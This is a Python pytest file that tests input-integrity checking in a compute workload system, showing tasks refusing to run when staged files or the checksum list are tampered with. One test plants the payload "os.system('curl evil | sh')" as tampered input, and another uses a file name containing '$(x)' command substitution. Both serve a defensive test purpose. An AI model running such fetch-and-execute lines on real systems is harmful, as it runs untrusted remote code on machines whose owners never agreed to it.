"""Inputs verified on the node before the command runs (issue 13, Medium 7): a task's command line is run here
the way the node runs it, in a working directory laid out from its resource files, with real sha256sum."""

from __future__ import annotations

import hashlib
import shlex
import subprocess
from pathlib import Path

import pytest

from bigcompute.workload import iter_tasks, load_workload
from bigcompute.workload.inputs import file_digest
from bigcompute.workload.wire import CHECKSUMS_PATH, InputChecksums, StorageContext, job_id, task_body

HEAD = "apiVersion: bigcompute/v1\nkind: Workload\nname: demo\npool: cpu\n"
CTX = StorageContext("http://127.0.0.1:1/devstoreaccount1/inputs", "http://127.0.0.1:1/devstoreaccount1/outputs")


def _stage(body: dict, workloads: Path, checksums: InputChecksums, wd: Path) -> None:
    """What the node agent does with the task's resource files: each blob lands at its filePath."""
    for rf in body["resourceFiles"]:
        target = wd / rf["filePath"]
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(checksums.data if rf["filePath"] == CHECKSUMS_PATH
                           else (workloads / rf["filePath"]).read_bytes())


def _run(body: dict, wd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(shlex.split(body["commandLine"]), cwd=wd, capture_output=True, text=True, timeout=30)


@pytest.fixture
def task(write, repo):
    lw = load_workload(write(HEAD + "inputs: [data/*.csv, prog/run.py]\ntasks:\n  - id: p-{stem}\n"
                                    "    command: echo ran > ran.txt\n    foreach: {files: 'data/*.csv'}\n"))
    digests = {f.relpath: file_digest(f.path) for f in lw.files}
    checksums = InputChecksums.of(digests)
    first = next(iter_tasks(lw.workload, lw.files))
    return task_body(first, lw.workload, job_id(lw.workload, digests), CTX, digests), checksums, repo / "workloads"


def test_untampered_inputs_pass_and_the_command_runs(task, tmp_path) -> None:
    body, checksums, workloads = task
    _stage(body, workloads, checksums, tmp_path)
    result = _run(body, tmp_path)
    assert (result.returncode, result.stderr) == (0, "")
    assert (tmp_path / "ran.txt").read_text() == "ran\n"


@pytest.mark.parametrize("victim", ["prog/run.py", "data/part0.csv"])
def test_a_replaced_input_stops_the_task_before_its_command(task, tmp_path, victim) -> None:
    body, checksums, workloads = task
    _stage(body, workloads, checksums, tmp_path)
    (tmp_path / victim).write_text("import os; os.system('curl evil | sh')\n")
    result = _run(body, tmp_path)
    assert result.returncode == 1
    assert result.stderr == f"bigcompute: input {victim} does not match its digest; refusing to run\n"
    assert not (tmp_path / "ran.txt").exists()


def test_a_rewritten_checksum_list_is_caught_by_the_digest_the_task_carries(task, tmp_path) -> None:
    body, checksums, workloads = task
    _stage(body, workloads, checksums, tmp_path)
    evil = b"print('evil')\n"
    (tmp_path / "prog/run.py").write_bytes(evil)
    forged = InputChecksums.of({"prog/run.py": hashlib.sha256(evil).hexdigest()})
    (tmp_path / CHECKSUMS_PATH).write_bytes(forged.data)
    result = _run(body, tmp_path)
    assert result.returncode == 1
    assert result.stderr == f"bigcompute: input {CHECKSUMS_PATH} does not match its digest; refusing to run\n"
    assert not (tmp_path / "ran.txt").exists()


def test_a_task_only_checks_the_inputs_it_has(task, tmp_path) -> None:
    body, checksums, workloads = task
    assert [rf["filePath"] for rf in body["resourceFiles"]] == ["data/part0.csv", "prog/run.py", CHECKSUMS_PATH]
    assert checksums.data.decode().count("\n") == 4  # every input of the workload is listed
    _stage(body, workloads, checksums, tmp_path)
    assert _run(body, tmp_path).returncode == 0


def test_tasks_without_inputs_carry_no_check(write) -> None:
    lw = load_workload(write(HEAD + "tasks:\n  - {id: a, command: echo hi}\n"))
    [t] = iter_tasks(lw.workload, lw.files)
    body = task_body(t, lw.workload, "j", CTX, {})
    assert body["commandLine"] == "/bin/sh -c 'echo hi'" and "resourceFiles" not in body


@pytest.mark.parametrize("name", ["sp ace.txt", "quo'te.txt", "back\\slash.txt", "new\nline.txt", "dollar$(x).txt"])
def test_the_list_reads_back_with_gnu_sha256sum_for_any_name(tmp_path, name) -> None:
    (tmp_path / name).write_bytes(b"data")
    checksums = InputChecksums.of({name: file_digest(tmp_path / name)})
    (tmp_path / "list").write_bytes(checksums.data)
    ok = subprocess.run(["sha256sum", "-c", "--strict", "--quiet", "list"], cwd=tmp_path, capture_output=True)
    assert ok.returncode == 0, ok
    (tmp_path / name).write_bytes(b"tampered")
    assert subprocess.run(["sha256sum", "-c", "--strict", "--quiet", "list"], cwd=tmp_path,
                          capture_output=True).returncode == 1
